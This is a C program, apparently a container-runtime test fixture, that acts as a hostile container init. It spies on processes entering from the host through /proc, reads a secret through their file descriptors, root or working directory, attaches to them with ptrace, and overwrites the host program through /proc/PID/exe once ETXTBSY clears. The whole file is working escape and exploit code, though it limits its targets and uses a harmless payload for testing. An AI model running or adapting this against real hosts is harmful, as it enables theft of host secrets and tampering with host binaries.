/*
 * attack-proc steal SECRET | attack-proc overwrite PART-OF-PATH...
 *
 * The hostile pid 1 of a container. It watches /proc for processes that come in from outside and prints one line for
 * each thing it gets from one that has not yet run a program of the container (exe is not below our root):
 *
 *   steal      "stolen PID via fd 5: ..." SECRET read through one of its fds, its root or its working directory
 *              "ptraced PID caps=..."     it could be traced: whatever it holds is ours
 *   overwrite  "written PID"              its program file was opened for writing and overwritten. Only programs whose
 *              path has an argument in it are touched: a test that fails must not destroy the host's.
 *
 * "seen PID exe" is printed for each, so that a test can tell an attack that failed from one that came too late.
 * It forks one attacker a newcomer so that a slow one does not hide the next.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_PIDS 65536
#define PAYLOAD	 "#!/bin/sh\necho overwritten by the container\n"

static int64_t now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* One line in one write: several attackers share the file. */
static void say(const char *what, pid_t pid, const char *detail)
{
	char line[1024];
	int n = snprintf(line, sizeof(line), "%s %d %s\n", what, (int)pid, detail);

	if (write(1, line, (size_t)n) < 0)
		_exit(1);
}

static int exe_of(pid_t pid, char *exe)
{
	char path[64];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	n = readlink(path, exe, PATH_MAX - 1);
	exe[n < 0 ? 0 : n] = '\0';
	return n < 0 ? -errno : 0;
}

/* ---- what may be read through it ---------------------------------------------------------------- */

static void try_secret(pid_t pid, const char *way, const char *secret)
{
	char path[PATH_MAX], text[256], detail[512];
	int fd;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/%s/%s", (int)pid, way, secret);
	fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0)
		return;
	n = read(fd, text, sizeof(text) - 1);
	close(fd);
	if (n <= 0)
		return;
	text[n] = '\0';
	text[strcspn(text, "\n")] = '\0';
	snprintf(detail, sizeof(detail), "via %s: %s", way, text);
	say("stolen", pid, detail);
}

static void try_fds(pid_t pid, const char *secret)
{
	char way[32];

	for (int fd = 0; fd < 32; fd++) {
		snprintf(way, sizeof(way), "fd/%d", fd);
		try_secret(pid, way, secret);
	}
	try_secret(pid, "root", secret);
	try_secret(pid, "cwd", secret);
}

/* ---- ptrace ------------------------------------------------------------------------------------- */

static void caps_of(pid_t pid, char *caps, size_t size)
{
	char path[64], line[256];
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
	f = fopen(path, "re");
	snprintf(caps, size, "caps=?");
	while (f && fgets(line, sizeof(line), f))
		if (sscanf(line, "CapPrm: %16[0-9a-f]", caps + 5) == 1)
			break;
	if (f)
		fclose(f);
}

static void try_ptrace(pid_t pid, const char *exe)
{
	char caps[64], detail[PATH_MAX + 128], now[PATH_MAX];

	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return;
	caps_of(pid, caps, sizeof(caps));
	exe_of(pid, now);
	/* it may have become the container's own program meanwhile: nothing is won by tracing that */
	if (strcmp(exe, now) == 0) {
		snprintf(detail, sizeof(detail), "%s %s", caps, exe);
		say("ptraced", pid, detail);
	}
	/* only a stopped one can be let go, and it must be: a command that stands still is no proof of anything */
	if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 && waitpid(pid, NULL, __WALL) == pid)
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void steal(pid_t pid, const char *exe, const char *secret)
{
	char now[PATH_MAX];

	try_ptrace(pid, exe);
	do {
		try_fds(pid, secret);
	} while (exe_of(pid, now) == 0 && strcmp(exe, now) == 0);
}

/* ---- overwriting its program -------------------------------------------------------------------- */

static int is_victim(const char *exe, char *const *victims)
{
	for (; *victims; victims++)
		if (strstr(exe, *victims))
			return 1;
	return 0;
}

/* An fd on the program is taken while it runs; it can be opened for writing as soon as it does not (ETXTBSY). */
static void overwrite(pid_t pid, const char *exe, char *const *victims)
{
	char path[64];
	int held, fd = -1;

	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	held = open(path, O_RDONLY | O_CLOEXEC);
	if (held < 0)
		return;
	say("opened", pid, exe);
	if (!is_victim(exe, victims))
		return;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	for (int64_t end = now_ms() + 2000; fd < 0 && now_ms() < end;) {
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0 && errno != ETXTBSY)
			break;
	}
	if (fd >= 0 && write(fd, PAYLOAD, strlen(PAYLOAD)) > 0)
		say("written", pid, exe);
	else
		say("refused", pid, strerror(errno));
}

/* ---- watching ----------------------------------------------------------------------------------- */

/* A program of ours is a path that exists below our root; a deleted one, a memfd or the host's is not. */
static int is_ours(const char *exe)
{
	struct stat st;

	return stat(exe, &st) == 0;
}

static void attack(pid_t pid, char **argv)
{
	char exe[PATH_MAX];
	int r = exe_of(pid, exe);

	say("seen", pid, r < 0 ? "(may not be looked at)" : exe);
	if (r == 0 && is_ours(exe))
		return;
	if (strcmp(argv[1], "steal") == 0)
		steal(pid, exe, argv[2]);
	else
		overwrite(pid, exe, argv + 2);
}

/* The processes that this one made itself. */
static int is_child(pid_t pid)
{
	char path[64], text[512], *p;
	int fd, ppid = 0;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = read(fd, text, sizeof(text) - 1);
	close(fd);
	text[n < 0 ? 0 : n] = '\0';
	p = strrchr(text, ')');
	return p && sscanf(p, ") %*c %d", &ppid) == 1 && ppid == getpid();
}

static void meet(pid_t pid, char **argv)
{
	if (is_child(pid))
		return;
	if (fork() == 0) {
		attack(pid, argv);
		_exit(0);
	}
}

static void watch(char **argv)
{
	static unsigned char known[MAX_PIDS], round_of[MAX_PIDS];
	unsigned char round = 0;

	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *de;

		round = (unsigned char)(round % 250 + 1);
		while (proc && (de = readdir(proc))) {
			unsigned long pid = strtoul(de->d_name, NULL, 10);

			if (pid < 2 || pid >= MAX_PIDS)
				continue;
			round_of[pid] = round;
			if (!known[pid]) {
				known[pid] = 1;
				meet((pid_t)pid, argv);
			}
		}
		if (proc)
			closedir(proc);
		for (int i = 0; i < MAX_PIDS; i++) /* a pid that is gone may come again */
			known[i] = known[i] && round_of[i] == round;
	}
}

int main(int argc, char **argv)
{
	if (argc < 3 || (strcmp(argv[1], "steal") != 0 && strcmp(argv[1], "overwrite") != 0)) {
		fprintf(stderr, "usage: attack-proc steal SECRET | overwrite PART-OF-PATH...\n");
		return 1;
	}
	signal(SIGCHLD, SIG_IGN);
	say("watching", getpid(), argv[1]);
	watch(argv);
	return 0;
}
